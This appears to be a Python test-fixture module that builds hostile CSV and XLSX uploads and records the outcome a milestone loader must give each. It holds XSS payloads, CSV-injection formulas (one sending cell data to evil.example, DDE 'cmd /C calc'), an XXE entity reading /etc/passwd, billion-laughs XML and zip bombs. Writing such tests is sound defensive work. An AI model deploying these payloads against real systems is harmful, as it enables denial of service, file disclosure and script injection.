"""Hostile uploads, each with the outcome the loader must give it.

Every file is built in code when a test asks for it, so nothing large or dangerous sits in
git: a 50 MB CSV, zip bombs, billion-laughs workbooks, sheets of a million rows. An outcome
is one of three:

- :class:`Unreadable`: the whole file is refused (``UnreadableFile``) with a sentence;
- :class:`Rejected`: the file is read, and its errors name the row and the column;
- :class:`Stored`: the milestone keeps the text exactly as written (Unicode NFC aside).
"""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl

MB = 2**20
HOST = "evil.example"  # every payload that would fetch something points here

# Each payload sets window.pwned if it ever runs, and fits in a sector (at most 60 characters).
SCRIPT = "<script>window.pwned=1</script>"
MARKDOWN_LINK = "[Read more](javascript:window.pwned=1)"
MARKDOWN_IMAGE = f"![pixel](https://{HOST}/md.png)"
HTML_IMAGE = f"<img src=https://{HOST}/i.png onerror=window.pwned=1>"
HTML_LINK = '<a href="javascript:window.pwned=1">go</a>'
STREAMLIT_MARKUP = ":red[**alert**] :material/bolt: $x^2$ <br>"  # Streamlit's own Markdown
PAYLOADS = {
    "script": SCRIPT,
    "markdown link": MARKDOWN_LINK,
    "markdown image": MARKDOWN_IMAGE,
    "html image": HTML_IMAGE,
    "html link": HTML_LINK,
    "streamlit markup": STREAMLIT_MARKUP,
}
# Text a spreadsheet would run as a formula when the export is opened (CSV injection).
FORMULAS = {
    "hyperlink formula": f'=HYPERLINK("https://{HOST}/?d="&A1,"Click")',
    "dde formula": "+cmd|' /C calc'!A0",
    "arithmetic formula": "-1+1",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# An override, Arabic, Hebrew, an isolate and a right-to-left mark.
RTL = "\u202eexe.txt\u202c مرحبا שלום \u2067isolate\u2069\u200f"
ZERO_WIDTH = "zero\u200bwidth\u200c non\u200djoiner\u2060 word\ufeffjoiner"
COMBINING = "Cafe\u0301 in Jaipur"  # stored as NFC: "Café in Jaipur"
TERMINAL_ESCAPE = "Red \x1b[31malert\x1b[0m text"  # C0 control characters, as a terminal reads them
TAB_LINK = "java\tscript:window.pwned=1"  # a browser drops the tab and reads javascript:

COLUMNS = ("id", "date", "title", "description", "rationale", "states", "place", "sector", "source")
TEXT_FIELDS = ("title", "description", "rationale", "place", "sector", "source")
BASE = {
    "id": "",
    "date": "Mar 2022",
    "title": "Courts hear children by video",
    "description": "Courts take children's testimony by videoconference.",
    "rationale": "Children no longer travel far to testify.",
    "states": "Rajasthan",
    "place": "Jaipur",
    "sector": "Justice",
    "source": "https://www.clfjaipur.org/results/",
}
MAX_LENGTH = {
    "id": 80,
    "title": 80,
    "description": 5000,
    "rationale": 5000,
    "place": 200,
    "sector": 60,
    "source": 2000,
}


@dataclass(frozen=True)
class Unreadable:
    """The whole file is refused; the message contains ``words``."""

    words: str


@dataclass(frozen=True)
class Rejected:
    """The file is read, and an error at ``row`` (None: the whole file) and ``column`` says ``words``."""

    row: int | None
    column: str
    words: str


@dataclass(frozen=True)
class Stored:
    """One milestone, whose fields hold exactly these values (text as NFC; states as a tuple)."""

    fields: dict
    encoding: str | None = None  # the encoding the loader must say it read, e.g. "utf-16"


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    file_name: str
    expected: Unreadable | Rejected | Stored
    heavy: bool = False  # a file built to exhaust the server: refused within the time budget

    @property
    def refused(self) -> bool:
        return not isinstance(self.expected, Stored)

    def __str__(self) -> str:
        return self.name


# Building files -------------------------------------------------------------------------------


def row(**cells: str) -> dict:
    """A valid milestone row with ``cells`` changed."""
    return BASE | cells


def everywhere(text: str) -> dict:
    """``text`` in every free-text field."""
    return dict.fromkeys(TEXT_FIELDS, text)


def csv_file(*rows: dict, encoding: str = "utf-8", header=COLUMNS) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    for cells in rows:
        writer.writerow([cells.get(column, "") for column in header])
    text = out.getvalue()
    if encoding == "utf-16-le":
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    if encoding == "utf-16-be":
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    return text.encode(encoding)


def xlsx_file(*rows: dict, header=COLUMNS) -> bytes:
    """A workbook whose cells are all text: "=..." stays text, as when Excel stores '=... ."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "milestones"
    sheet.append(list(header))
    for number, cells in enumerate(rows, start=2):
        for column, name in enumerate(header, start=1):
            cell = sheet.cell(row=number, column=column)
            cell.value = cells.get(name, "") or None
            cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def rewrite(data: bytes, member: str, change: Callable[[str], str]) -> bytes:
    """The workbook with one XML part changed by ``change(text) -> text``."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == member:
                content = change(content.decode()).encode()
            target.writestr(item, content)
    return out.getvalue()


def _plain_workbook() -> bytes:
    return xlsx_file(row(description="MARKER"))


def _in_sheet(doctype: str, cell_text: str, data: bytes | None = None) -> bytes:
    """The plain workbook with ``doctype`` before its sheet and ``cell_text`` (raw XML) as the description."""

    def change(xml: str) -> str:
        return doctype + re.sub(r"<\?xml[^>]*\?>", "", xml).replace(">MARKER<", f">{cell_text}<")

    return rewrite(data or _plain_workbook(), SHEET, change)


def _zip(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand from (name, packed data, crc, declared size, method) entries,
    so that one packed stream can be reused, or a size can be declared that is not true."""
    out, directory = bytearray(), bytearray()
    for name, packed, crc, size, method in entries:
        offset, encoded, lengths = len(out), name.encode(), (len(packed), size, len(name.encode()))
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, *lengths, 0)
        central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, *lengths,
                              0, 0, 0, 0, 0, offset)  # fmt: skip
        out += local + encoded + packed
        directory += central + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return bytes(out + directory + end)


def _stored_entries(data: bytes, leave_out: str = "") -> list[tuple[str, bytes, int, int, int]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    contents = {name: archive.read(name) for name in archive.namelist() if name != leave_out}
    return [(name, body, zlib.crc32(body), len(body), zipfile.ZIP_STORED) for name, body in contents.items()]


def _zeros_deflated(megabytes: int) -> bytes:
    """A raw deflate stream of ``megabytes`` MB of zero bytes, made from one packed megabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(b"\0" * MB) + packer.flush(zlib.Z_FULL_FLUSH)  # self-contained blocks
    return one * megabytes + b"\x03\x00"  # then an empty final block


def ratio_bomb() -> bytes:
    return _zip({"xl/workbook.xml": "<workbook/>", SHEET: b"\0" * (20 * MB)})


def many_part_bomb() -> bytes:
    """200 parts of 5 MB each (small enough to escape a per-part ratio check): 1,000 MB in all."""
    packed, crc = _zeros_deflated(5), zlib.crc32(b"\0" * (5 * MB))
    parts = [(f"xl/media/image{n}.bin", packed, crc, 5 * MB, zipfile.ZIP_DEFLATED) for n in range(200)]
    return _raw_zip(_stored_entries(_plain_workbook()) + parts)


def understated_bomb() -> bytes:
    """The sheet unpacks to 1 GB of zeros while the zip's directory says 1 KB."""
    entries = _stored_entries(_plain_workbook(), leave_out=SHEET)
    return _raw_zip([*entries, (SHEET, _zeros_deflated(1024), 0, 1024, zipfile.ZIP_DEFLATED)])


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def laughs_in_sheet() -> bytes:
    return _in_sheet(LAUGHS, "&lol9;")


def laughs_in_workbook() -> bytes:
    def change(xml: str) -> str:
        return LAUGHS + re.sub(r"<\?xml[^>]*\?>", "", xml).replace('name="milestones"', 'name="&lol9;"')

    return rewrite(_plain_workbook(), "xl/workbook.xml", change)


def laughs_in_shared_strings() -> bytes:
    """The description as a shared string whose text is the billion laughs."""
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = f'{LAUGHS}<sst xmlns="{namespace}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    data = rewrite(
        _plain_workbook(),
        SHEET,
        lambda xml: re.sub(r't="inlineStr"><is><t>MARKER</t></is>', 't="s"><v>0</v>', xml),
    )
    data = rewrite(
        data,
        "[Content_Types].xml",
        lambda xml: xml.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        ),
    )
    data = rewrite(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda xml: xml.replace(
            "</Relationships>",
            '<Relationship Id="rIdStrings" Target="sharedStrings.xml" Type="http://schemas.openxmlformats'
            '.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
        ),
    )
    entries = _stored_entries(data)
    body = strings.encode()
    return _raw_zip([*entries, ("xl/sharedStrings.xml", body, zlib.crc32(body), len(body), 0)])


def external_entity() -> bytes:
    return _in_sheet('<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;")


def quadratic_blowup() -> bytes:
    return _in_sheet(f'<!DOCTYPE worksheet [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 20_000)


def _sheet_declaring(ref: str) -> bytes:
    return rewrite(
        _plain_workbook(),
        SHEET,
        lambda xml: re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', xml),
    )


def far_row_without_dimension(number: int = 1_000_000) -> bytes:
    """A sheet that declares no size and has a milestone in row ``number``."""
    cells = "".join(
        f'<c r="{letter}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for letter, text in zip("BCDE", ("Apr 2022", "Far down", "Hidden far down.", "Why."), strict=True)
    )

    def change(xml: str) -> str:
        xml = re.sub(r"<dimension [^>]*/>", "", xml)
        return xml.replace("</sheetData>", f'<row r="{number}">{cells}</row></sheetData>')

    return rewrite(_plain_workbook(), SHEET, change)


def formula_cell(cached: str | None) -> bytes:
    """The description as a real formula cell, with the value Excel saved for it (or none)."""
    formula = f"HYPERLINK(&quot;https://{HOST}/?d=&quot;&amp;A1,&quot;Click&quot;)"
    value = f"<v>{cached}</v>" if cached is not None else ""
    return rewrite(
        _plain_workbook(),
        SHEET,
        lambda xml: re.sub(r't="inlineStr"><is><t>MARKER</t></is>', f't="str"><f>{formula}</f>{value}', xml),
    )


def csv_rows(count: int) -> bytes:
    """``count`` rows, short enough that a million of them stay under the size limit (10 MB)."""
    return b"date,description,rationale\r\n" + b"2022,d,r\r\n" * count


def csv_of_size(size: int) -> bytes:
    line = csv_file(row())
    body = line.split(b"\r\n", 1)[1]
    return (line + body * (size // len(body) + 1))[:size]


def long_text(length: int) -> str:
    """``length`` characters of script payload, ending in a letter (cells are trimmed)."""
    return ((SCRIPT + "·") * (length // len(SCRIPT) + 1))[: length - 1] + "x"


def header_columns(count: int) -> bytes:
    return b"date,description,rationale" + b",x" * count + b"\r\nMar 2022,d,r\r\n"


PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
OLD_EXCEL = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"This program cannot be run in DOS mode."
HTML_PAGE = f"<!doctype html><html><body>{SCRIPT}{HTML_IMAGE}</body></html>\n".encode()

UNICODE_TEXT = f"{SCRIPT} बाल श्रम मुक्त जयपुर 😀 – ₹500 ’"
CP1252_TEXT = f"{SCRIPT} “smart quotes” – €500 ’ é"
LATIN1_TEXT = f"{SCRIPT} é ñ ü × ¿ «»"


# The corpus ------------------------------------------------------------------------------------


def _csv(**cells: str) -> Callable[[], bytes]:
    return lambda: csv_file(row(**cells))


def _xlsx(**cells: str) -> Callable[[], bytes]:
    return lambda: xlsx_file(row(**cells))


def _in_every_text_field(name: str, text: str, stem: str, kept: str | None = None) -> list[Case]:
    """``text`` in every free-text field of a CSV and of an XLSX file (``stem``.csv, .xlsx), each
    stored as ``kept`` (default: as written)."""
    stored = Stored(everywhere(text if kept is None else kept))
    return [
        Case(f"{name} in every text field (CSV)", _csv(**everywhere(text)), f"{stem}.csv", stored),
        Case(f"{name} in every text field (XLSX)", _xlsx(**everywhere(text)), f"{stem}.xlsx", stored),
    ]


def _too_long(column: str, length: int) -> Rejected:
    return Rejected(2, column, f"{length:,} characters long; the most is {MAX_LENGTH[column]:,}")


def _cases() -> list[Case]:
    cases: list[Case] = []

    # Markup in every text field: kept as written (and shown as text); refused where it cannot be.
    for name, text in PAYLOADS.items():
        cases += [
            *_in_every_text_field(name, text, "p"),
            Case(
                f"{name} as the id", _csv(id=text), "p.csv", Rejected(2, "id", "An id is lowercase letters")
            ),
            Case(
                f"{name} as the states", _csv(states=text), "p.csv", Rejected(2, "states", "is not a state")
            ),
            Case(f"{name} as the date", _csv(date=text), "p.csv", Rejected(2, "date", "not a date")),
        ]
    cases.append(
        Case(
            "script after a valid id",
            _csv(id=f"a-1{SCRIPT}"),
            "p.csv",
            Rejected(2, "id", "An id is lowercase"),
        )
    )
    for name, link in (
        ("javascript:", "javascript:window.pwned=1"),
        ("JavaScript: in mixed case", "JavaScript:window.pwned=1"),
        ("javascript: after spaces", "   javascript:window.pwned=1"),
        ("data:", f"data:text/html,{SCRIPT}"),
        ("vbscript:", "vbscript:msgbox(1)"),
        ("file:", "file:///etc/passwd"),
    ):
        refused = Rejected(2, "source", "must start with http:// or https://")
        cases.append(Case(f"source {name}", _csv(source=link), "links.csv", refused))
    # No scheme to the schema (a tab is no scheme character), so kept as plain text; every surface
    # shows a source that does not start with http(s):// as text, never as a link.
    cases.append(
        Case("source java<tab>script", _csv(source=TAB_LINK), "links.csv", Stored({"source": TAB_LINK}))
    )

    # Spreadsheet formulas: kept as written; the exports prefix them with '.
    for name, text in FORMULAS.items():
        cases += _in_every_text_field(name, text, "f")
    cases += [
        Case("formula cell read as its saved value", lambda: formula_cell("Click"), "f.xlsx",
             Stored({"description": "Click"})),
        Case("formula cell without a saved value", lambda: formula_cell(None), "f.xlsx",
             Rejected(2, "description", "holds a formula")),
    ]  # fmt: skip

    # Right-to-left, zero-width, combining and control characters.
    nfc = unicodedata.normalize("NFC", COMBINING)
    for name, text, kept in (
        ("right-to-left", RTL, RTL),
        ("zero-width", ZERO_WIDTH, ZERO_WIDTH),
        ("combining accents", COMBINING, nfc),
    ):
        cases += _in_every_text_field(name, text, "u", kept)
    cases += [
        Case("zero-width in a date", _csv(date="Mar\u200b 2022"), "u.csv", Rejected(2, "date", "not a date")),
        Case("zero-width after a valid id", _csv(id="a-1\u200b"), "u.csv", Rejected(2, "id", "An id is")),
        Case("right-to-left override in a state", _csv(states="\u202eRajasthan"), "u.csv",
             Stored({"states": ("Rajasthan",)})),
        Case("zero-width sector makes no look-alike", _csv(sector="Justice\u200b"), "u.csv",
             Stored({"sector": "Justice"})),
    ]  # fmt: skip
    # Characters no spreadsheet can store: refused where they stand, so every export still works.
    for column in TEXT_FIELDS:
        cases.append(
            Case(f"terminal escape in the {column}", _csv(**{column: TERMINAL_ESCAPE}), "c.csv",
                 Rejected(2, column, "invisible control character (U+001B)"))
        )  # fmt: skip
    cases += [
        Case("bell in a title", _csv(title="Ding\x07"), "c.csv", Rejected(2, "title", "(U+0007)")),
        Case("noncharacter U+FFFE in a description", _csv(description="a\ufffeb"), "c.csv",
             Rejected(2, "description", "(U+FFFE)")),
        Case("tab and line break in a description", _csv(description="One\tTwo\nThree"), "c.csv",
             Stored({"description": "One\tTwo\nThree"})),
    ]  # fmt: skip

    # Long cells: 10,000 characters in every field, and each limit of schema.MAX_LENGTH at its edge.
    for column in ("id", *TEXT_FIELDS):
        text = "a" * 10_000 if column == "id" else long_text(10_000)
        cases.append(
            Case(f"10,000 characters in {column}", _csv(**{column: text}), "l.csv", _too_long(column, 10_000))
        )
    for column in ("title", "description", "rationale"):
        limit = MAX_LENGTH[column]
        over, at, under = (long_text(n) for n in (limit + 1, limit, limit - 1))
        cases += [
            Case(
                f"{column} one over its limit", _csv(**{column: over}), "l.csv", _too_long(column, limit + 1)
            ),
            Case(f"{column} of {limit:,} characters", _csv(**{column: at}), "l.csv", Stored({column: at})),
            Case(
                f"{column} of {limit - 1:,} characters",
                _csv(**{column: under}),
                "l.csv",
                Stored({column: under}),
            ),
        ]
    under = long_text(4_999)
    cases += [
        Case("10,000 characters in states", _csv(states="Rajasthan" * 1112), "l.csv",
             Rejected(2, "states", "is not a state")),
        Case("10,000 characters in date", _csv(date="Mar 2022 " * 1111 + "x"), "l.csv",
             Rejected(2, "date", "not a date")),
        Case("10,000-character title (XLSX)", _xlsx(title=long_text(10_000)), "l.xlsx",
             _too_long("title", 10_000)),
        Case("4,999-character description (XLSX)", _xlsx(description=under), "l.xlsx",
             Stored({"description": under})),
        Case("3 MB cell with line breaks", _csv(description="line, more\n" * 300_000), "l.csv",
             Unreadable("cannot be read")),
    ]  # fmt: skip

    # Built to exhaust the server: size, zip bombs, XML entities, rows. Each is refused, quickly.
    too_big = Unreadable("50.0 MB; the limit is 20 MB")
    unreadable_workbook = Unreadable("This workbook cannot be read: it is damaged, or not a real Excel file.")
    heavy = [
        Case("50 MB CSV", lambda: csv_of_size(50 * MB), "big.csv", too_big),
        Case("50 MB file named .xlsx", lambda: b"PK\x03\x04" + b"\0" * (50 * MB), "big.xlsx", too_big),
        Case("20 MB and one byte", lambda: csv_of_size(20 * MB + 1), "big.csv", Unreadable("limit is 20 MB")),
        Case("zip bomb, one part 1,000 times its size", ratio_bomb, "bomb.xlsx", Unreadable("zip bomb")),
        Case("zip bomb, 200 parts adding up to 1,000 MB", many_part_bomb, "bomb.xlsx",
             Unreadable("unpacks to 1,000 MB, over the limit of 200 MB")),
        Case("zip bomb understating its size", understated_bomb, "bomb.xlsx", Unreadable("cannot be read")),
        Case("billion laughs in the sheet", laughs_in_sheet, "lol.xlsx", unreadable_workbook),
        Case("billion laughs in the shared strings", laughs_in_shared_strings, "lol.xlsx",
             unreadable_workbook),
        Case("billion laughs in the workbook", laughs_in_workbook, "lol.xlsx", Unreadable("cannot be read")),
        Case("quadratic entity blowup", quadratic_blowup, "lol.xlsx", unreadable_workbook),
        Case("external entity reading /etc/passwd", external_entity, "xxe.xlsx",
             unreadable_workbook),
        Case("sheet declaring a million rows", lambda: _sheet_declaring("A1:I1000000"), "rows.xlsx",
             Unreadable("declares 999,999 rows; the limit is 100,000")),
        Case("sheet declaring the whole grid", lambda: _sheet_declaring("A1:XFD1048576"), "rows.xlsx",
             Unreadable("declares 1,048,575 rows; the limit is 100,000")),
        Case("row 1,000,000 in a sheet declaring no size", far_row_without_dimension, "rows.xlsx",
             Unreadable("more than 100,000 rows")),
        Case("CSV of a million rows", lambda: csv_rows(1_000_000), "rows.csv",
             Unreadable("1,000,000 rows; the limit is 100,000")),
        Case("CSV of 100,001 rows", lambda: csv_rows(100_001), "rows.csv",
             Unreadable("100,001 rows; the limit is 100,000")),
    ]  # fmt: skip
    cases += [dataclasses.replace(case, heavy=True) for case in heavy]

    # Wrong extensions: the loader goes by content, and names a renamed file for what it is.
    ods = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<office/>"}
    cases += [
        Case("CSV named .xlsx", _csv(), "m.xlsx", Unreadable("named .xlsx but is not an Excel workbook")),
        Case("CSV named .xlsm", _csv(), "m.xlsm", Unreadable("named .xlsm but is not an Excel workbook")),
        Case("PDF named .csv", lambda: PDF, "m.csv", Unreadable("This is a PDF")),
        Case("old Excel file named .xlsx", lambda: OLD_EXCEL, "m.xlsx", Unreadable("old Excel file (.xls)")),
        Case("OpenDocument named .xlsx", lambda: _zip(ods), "m.xlsx", Unreadable("(.ods) are not supported")),
        Case("Word document named .xlsx", lambda: _zip({"word/document.xml": "<w/>"}), "m.xlsx",
             Unreadable("zip file but not an Excel workbook")),
        Case("PNG named .csv", lambda: PNG, "m.csv", Unreadable("not a text file")),
        Case("Windows program named .csv", lambda: PROGRAM, "m.csv", Unreadable("not a text file")),
        Case("HTML page named .csv", lambda: HTML_PAGE, "m.csv", Rejected(None, "date", "There is no date")),
        Case("empty file", lambda: b"", "m.csv", Unreadable("The file is empty")),
        Case("XLSX named .csv", _xlsx(title=SCRIPT), "m.csv", Stored({"title": SCRIPT})),
        Case("CSV named .txt", _csv(title=SCRIPT), "m.txt", Stored({"title": SCRIPT})),
        Case("CSV with no extension", _csv(title=SCRIPT), "m", Stored({"title": SCRIPT})),
    ]  # fmt: skip

    # Every encoding the loader claims, and the ones it must refuse.
    for encoding, text, read_as in (
        ("utf-8", UNICODE_TEXT, "utf-8"),
        ("utf-8-sig", UNICODE_TEXT, "utf-8-sig"),
        ("utf-16-le", UNICODE_TEXT, "utf-16"),
        ("utf-16-be", UNICODE_TEXT, "utf-16"),
        ("cp1252", CP1252_TEXT, "cp1252"),
        ("latin-1", LATIN1_TEXT, "cp1252"),  # printable latin-1 is cp1252, byte for byte
        ("latin-1", LATIN1_TEXT + " \x81", "latin-1"),  # with a byte cp1252 leaves undefined
    ):
        fields = {"title": text, "description": text, "rationale": text}
        build = (lambda f, e: lambda: csv_file(row(**f), encoding=e))(fields, encoding)
        cases.append(
            Case(f"{encoding} (read as {read_as})", build, f"{encoding}.csv", Stored(fields, read_as))
        )
    plain = csv_file(row())
    cases += [
        Case("UTF-8 BOM then invalid bytes", lambda: codecs.BOM_UTF8 + plain + b"\xff\xfe", "e.csv",
             Unreadable("The file says it is UTF-8 but contains bytes that are not")),
        Case("UTF-16 BOM then an odd byte", lambda: csv_file(row(), encoding="utf-16-le") + b"\0", "e.csv",
             Unreadable("The file says it is UTF-16 but contains bytes that are not")),
        Case("UTF-16 without a BOM", lambda: plain.decode().encode("utf-16-le"), "e.csv",
             Unreadable("not a text file")),
        Case("UTF-32 with a BOM", lambda: plain.decode().encode("utf-32"), "e.csv",
             Unreadable("not a text file")),
        Case("NUL byte in a UTF-8 CSV", _csv(description="a\0b"), "e.csv", Unreadable("not a text file")),
    ]  # fmt: skip
    return cases


CASES = _cases()
REFUSED = [case for case in CASES if case.refused]
STORED = [case for case in CASES if not case.refused]
HEAVY = [case for case in CASES if case.heavy]


# A data set to publish and look at ----------------------------------------------------------------

SHOWN = {
    **PAYLOADS,
    **FORMULAS,
    "right-to-left": RTL,
    "zero-width": ZERO_WIDTH,
    "combining": unicodedata.normalize("NFC", COMBINING),
}


def showcase_rows() -> list[dict]:
    """One milestone per hostile text, and each text in every free-text field of some milestone
    (row ``i`` holds text ``i + j`` in field ``j``); then one whose source hides a scheme."""
    texts = list(SHOWN.values())
    states = ("Rajasthan", "Bihar", "Rajasthan; Bihar", "")
    rows = [
        row(
            date=f"{2015 + i // 12}-{i % 12 + 1:02d}",
            states=states[i % len(states)],
            **{column: texts[(i + j) % len(texts)] for j, column in enumerate(TEXT_FIELDS)},
        )
        for i in range(len(texts))
    ]
    return [*rows, row(date="2016-06", source=TAB_LINK)]


def showcase_csv() -> bytes:
    return csv_file(*showcase_rows())
